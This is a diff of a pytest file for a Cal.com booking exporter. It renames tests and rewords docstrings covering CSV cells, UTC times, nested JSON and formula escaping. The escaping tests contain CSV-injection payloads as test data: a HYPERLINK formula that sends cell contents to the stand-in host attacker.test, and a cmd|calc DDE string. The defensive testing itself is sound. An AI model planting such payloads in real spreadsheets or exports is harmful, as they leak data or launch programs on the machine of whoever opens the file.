@@ -1,4 +1,4 @@
-"""Models as flat rows: what is in a cell, and what is never in one."""
+"""CSV rows of a model: the content of its cells, and which content is escaped."""
 
 from __future__ import annotations
 
@@ -45,12 +45,12 @@ WIRE: dict[str, Any] = {
 }
 
 
-def row(**changes: Any) -> dict[str, str]:
+def booking_row(**changes: Any) -> dict[str, str]:
     wire = {name: value for name, value in (WIRE | changes).items() if value is not ...}
-    return of(Booking, wire)
+    return row_of(Booking, wire)
 
 
-def of(model: type[msgspec.Struct], wire: dict[str, Any]) -> dict[str, str]:
+def row_of(model: type[msgspec.Struct], wire: dict[str, Any]) -> dict[str, str]:
     columns = columns_of(model)
     return dict(zip(columns, cells(columns, decode(model, msgspec.json.encode(wire))), strict=True))
 
@@ -76,8 +76,8 @@ def of(model: type[msgspec.Struct], wire: dict[str, Any]) -> dict[str, str]:
     ],
 )
 def test_a_cell(column: str, cell: str) -> None:
-    """Times are in UTC, several people are joined, nested answers are JSON, nothing is an empty cell."""
-    assert row()[column] == cell
+    """Times are in UTC, several people are joined, nested values are JSON, and null is an empty cell."""
+    assert booking_row()[column] == cell
 
 
 @pytest.mark.parametrize(
@@ -90,11 +90,11 @@ def test_a_cell(column: str, cell: str) -> None:
         {"status": "a status of tomorrow", "news": {"of": "tomorrow"}},
     ],
 )
-def test_gaps_and_news_keep_the_columns(changes: dict[str, Any]) -> None:
-    """Whatever is missing, null or new, a row has every column and the rest of its cells."""
-    found = row(**changes)
-    assert list(found) == list(BOOKING_COLUMNS)
-    assert found["uid"] == "abc"
+def test_missing_and_new_fields_do_not_change_the_columns(changes: dict[str, Any]) -> None:
+    """Whatever is missing, null or new, a row has every column and its other cells."""
+    csv_row = booking_row(**changes)
+    assert list(csv_row) == list(BOOKING_COLUMNS)
+    assert csv_row["uid"] == "abc"
 
 
 SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66"]
@@ -102,22 +102,22 @@ BLANKS = [" =", "\t=", "\r\n=", "\xa0@", "\u3000\uff1d", "\ufeff=", "\u200b\u202
 
 
 @pytest.mark.parametrize("first", [*SIGNS, *BLANKS])
-def test_formulas_are_neutralised(first: str) -> None:
-    """What a spreadsheet would run gets an apostrophe, in each column whose text others write."""
-    evil = f'{first}HYPERLINK("https://evil.test?"&A1)'
-    found = row(
-        title=evil,
-        description=evil,
-        location=evil,
-        cancellationReason=evil,
-        reschedulingReason=evil,
-        guests=[evil],
-        attendees=[{"name": evil, "email": evil, "timeZone": evil, "absent": False}],
-        status=evil,
+def test_formulas_are_escaped(first: str) -> None:
+    """A text that a spreadsheet would run gets an apostrophe, in each column that others can write to."""
+    formula = f'{first}HYPERLINK("https://attacker.test?"&A1)'
+    csv_row = booking_row(
+        title=formula,
+        description=formula,
+        location=formula,
+        cancellationReason=formula,
+        reschedulingReason=formula,
+        guests=[formula],
+        attendees=[{"name": formula, "email": formula, "timeZone": formula, "absent": False}],
+        status=formula,
     )
-    columns = [name for name, cell in found.items() if "HYPERLINK" in cell]
+    columns = [name for name, cell in csv_row.items() if "HYPERLINK" in cell]
     assert len(columns) == 10
-    assert all(found[name] == "'" + evil for name in columns)
+    assert all(csv_row[name] == "'" + formula for name in columns)
 
 
 PHONES = [
@@ -128,21 +128,21 @@ WORDS = ["a=b", "mail@x.test", "1+1", "(=1)", "\tTab", "\nLine", " x", "\ufeff",
 
 
 @pytest.mark.parametrize("text", [*PHONES, *WORDS])
-def test_what_is_not_run_is_not_altered(text: str) -> None:
-    """Phone numbers, numbers and texts that begin no formula stay as they are."""
+def test_other_texts_are_not_changed(text: str) -> None:
+    """Phone numbers, numbers and texts that begin no formula are written unchanged."""
     assert escape_formula(text) == text
-    assert row(location=text)["location"] == text
+    assert booking_row(location=text)["location"] == text
 
 
 @pytest.mark.parametrize("text", ["+1+A1", "-2+3+cmd|' /C calc'!A0", "+SUM(1)", "-x", "+39 call me", "+" + "1" * 99])
-def test_a_formula_behind_a_sign_is_no_phone_number(text: str) -> None:
-    """Whatever names a cell, a function or a program is neutralised, and so is a long row of digits."""
+def test_a_formula_after_a_sign_is_no_phone_number(text: str) -> None:
+    """A text that names a cell, a function or a program is escaped, and so is a long row of digits."""
     assert escape_formula(text) == "'" + text
 
 
 @given(st.text(st.sampled_from("=+-@\uff1d\ufeff \t\x001A(x#.")))
-def test_a_text_stays_whole_and_begins_no_formula(text: str) -> None:
-    """Any text has at most one apostrophe before it; without one it is no formula, or has digits and marks alone."""
+def test_an_escaped_text_begins_no_formula(text: str) -> None:
+    """Any text gets at most one apostrophe. Without one it is no formula, or has only digits and marks."""
     safe = escape_formula(text)
     assert safe in {text, "'" + text}
     shown = safe.lstrip(" \t\x00\ufeff")
@@ -153,7 +153,7 @@ def test_a_text_stays_whole_and_begins_no_formula(text: str) -> None:
 
 @pytest.mark.parametrize("options", [{"escape": False}, {"bom": True}, {"escape": False, "bom": True}], ids=str)
 def test_csv_without_escapes_or_with_a_byte_order_mark(options: dict[str, bool], tmp_path: Path) -> None:
-    """Both are choices of the caller, and are kept when the file is brought up to date."""
+    """An incremental update keeps both options."""
     for title in ("=1", "=2"):
         with open_sink(tmp_path / "a.csv", **options) as sink:
             sink.begin()
@@ -174,24 +174,24 @@ def test_options_of_csv_are_for_csv(name: str, options: dict[str, bool], tmp_pat
         open_sink(tmp_path / name, **options)
 
 
-def test_a_time_that_utc_cannot_express_is_written_as_it_is() -> None:
+def test_a_time_that_utc_cannot_express_is_written_unchanged() -> None:
     """A time at the edge of the calendar costs neither its row nor the export."""
-    assert row(end="0001-01-01T00:00:00+14:00")["end"] == "0001-01-01T00:00:00.000+14:00"
-    assert row(end="9999-12-31T23:59:59-14:00")["end"] == "9999-12-31T23:59:59.000-14:00"
+    assert booking_row(end="0001-01-01T00:00:00+14:00")["end"] == "0001-01-01T00:00:00.000+14:00"
+    assert booking_row(end="9999-12-31T23:59:59-14:00")["end"] == "9999-12-31T23:59:59.000-14:00"
 
 
 @pytest.mark.slow
 @given(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
-def test_any_text_survives_a_csv_reader(text: str) -> None:
-    """Quotes, commas, line ends and all of Unicode come back from csv.reader as they were."""
+def test_a_csv_reader_returns_any_text(text: str) -> None:
+    """Quotes, commas, line ends and all of Unicode are read by csv.reader as they were."""
     with TemporaryDirectory() as folder:
         with open_sink(Path(folder, "a.csv")) as sink:
             sink.begin()
             sink.write([Raw(msgspec.json.encode(WIRE | {"title": text}))])
             sink.finish()
         with sink.path.open(encoding="utf-8", newline="") as lines:
-            _, found = csv.reader(lines)
-    assert dict(zip(BOOKING_COLUMNS, found, strict=True))["title"] == escape_formula(text)
+            _, csv_row = csv.reader(lines)
+    assert dict(zip(BOOKING_COLUMNS, csv_row, strict=True))["title"] == escape_formula(text)
 
 
 ODD: list[Any] = [
@@ -201,30 +201,30 @@ ODD: list[Any] = [
 BROKEN = [b"\\ud800", b"\xff", b"\n", b"\r\n", b"[" * 3000, b"1e999", b"NaN"]
 
 
-def mutated(rng: random.Random, value: Any) -> Any:
-    """The value with something odd in one place."""
+def mutate(rng: random.Random, value: Any) -> Any:
+    """Return the value with an odd part in one position."""
     if isinstance(value, dict) and value and rng.random() < 0.7:
         name = rng.choice([*value])
-        return {**value, name: mutated(rng, value[name])}
+        return {**value, name: mutate(rng, value[name])}
     if isinstance(value, list) and value and rng.random() < 0.7:
-        place = rng.randrange(len(value))
-        return [*value[:place], mutated(rng, value[place]), *value[place + 1 :]]
+        index = rng.randrange(len(value))
+        return [*value[:index], mutate(rng, value[index]), *value[index + 1 :]]
     return rng.choice(ODD)
 
 
 @pytest.mark.slow
 @pytest.mark.parametrize(("name", "count"), [("a.csv", 600), ("a.jsonl", 600), ("a.parquet", 60)])
-def test_an_odd_row_is_written_or_told(name: str, count: int, tmp_path: Path) -> None:
-    """Whatever a row holds, it is in the file, or the error is one of the package."""
+def test_an_odd_row_is_written_or_an_error(name: str, count: int, tmp_path: Path) -> None:
+    """Any row is in the file, or the error is one of the package."""
     rng = random.Random(name)
     for number in range(count):
         row: Any = WIRE
         for _ in range(rng.randrange(1, 4)):
-            row = mutated(rng, row)
+            row = mutate(rng, row)
         data = msgspec.json.encode(row)
         if rng.random() < 0.2:
-            place = rng.randrange(len(data))
-            data = data[:place] + rng.choice(BROKEN) + data[place:]
+            index = rng.randrange(len(data))
+            data = data[:index] + rng.choice(BROKEN) + data[index:]
         with suppress(CalcomError), open_sink(tmp_path / f"{number}-{name}") as sink:
             sink.begin()
             sink.write([Raw(data)])
@@ -234,7 +234,7 @@ def test_an_odd_row_is_written_or_told(name: str, count: int, tmp_path: Path) ->
 # --- other models -------------------------------------------------------------------------------------------------
 
 
-class Thing(models.Team, frozen=True, kw_only=True):
+class EveryKind(models.Team, frozen=True, kw_only=True):
     """A model with a value of every kind."""
 
     count: int
@@ -246,14 +246,14 @@ class Thing(models.Team, frozen=True, kw_only=True):
     people: list[models.BookingHost] | None = None
 
 
-THING: dict[str, Any] = {
+EVERY_KIND: dict[str, Any] = {
     "id": 3, "name": "=A1", "count": -5, "share": 0.5, "day": "2026-05-06", "seenAt": "2026-05-06T12:00:00+02:00",
     "tags": ["=x", "y"], "metadata": {"a": {"b": [1]}}, "people": [{"id": 1, "displayEmail": "a@cal.test"}],
 }  # fmt: skip
 
 
 def test_other_models_have_their_fields_as_columns() -> None:
-    """A model without columns of its own has its fields, in their order, by their Python names."""
+    """The columns are the fields in their order, by their Python names."""
     assert list(columns_of(models.OutOfOfficeEntry)) == [
         "id", "uuid", "user_id", "to_user_id", "start", "end", "notes", "reason",
     ]  # fmt: skip
@@ -277,22 +277,22 @@ def test_other_models_have_their_fields_as_columns() -> None:
     ],
 )
 def test_a_cell_of_another_model(column: str, cell: str) -> None:
-    """Plain values are as they are, times in UTC, formulas neutralised, and what is nested is JSON."""
-    assert of(Thing, THING)[column] == cell
+    """Plain values are unchanged, times are in UTC, formulas are escaped, and nested values are JSON."""
+    assert row_of(EveryKind, EVERY_KIND)[column] == cell
 
 
-def test_what_is_nested_is_json_as_cal_com_names_it() -> None:
-    """A list of structs can be read back as the API wrote it."""
-    (person,) = msgspec.json.decode(of(Thing, THING)["people"])
+def test_nested_values_are_json_with_the_names_of_the_api() -> None:
+    """A list of structs can be read back as the API returned it."""
+    (person,) = msgspec.json.decode(row_of(EveryKind, EVERY_KIND)["people"])
     assert person["displayEmail"] == "a@cal.test"
 
 
 @pytest.mark.parametrize("anything", ["=1+1", ["=1+1"], {"=1+1": 1}])
-def test_nothing_nested_begins_a_formula(anything: Any) -> None:
-    """JSON in a cell begins with a bracket, and a text that may be anything is neutralised like any other."""
-    assert of(Thing, THING | {"anything": anything})["anything"][0] in "'[{"
+def test_a_nested_value_begins_no_formula(anything: Any) -> None:
+    """JSON in a cell begins with a bracket, and a text of any type is escaped like others."""
+    assert row_of(EveryKind, EVERY_KIND | {"anything": anything})["anything"][0] in "'[{"
 
 
 def test_a_time_without_zone_is_utc() -> None:
-    """The server's times are UTC, also where one says no zone; the machine's zone is not asked."""
-    assert of(Thing, THING | {"seenAt": "2026-05-06T12:00:00"})["seen_at"] == "2026-05-06T12:00:00.000Z"
+    """The time zone of the machine does not matter."""
+    assert row_of(EveryKind, EVERY_KIND | {"seenAt": "2026-05-06T12:00:00"})["seen_at"] == "2026-05-06T12:00:00.000Z"
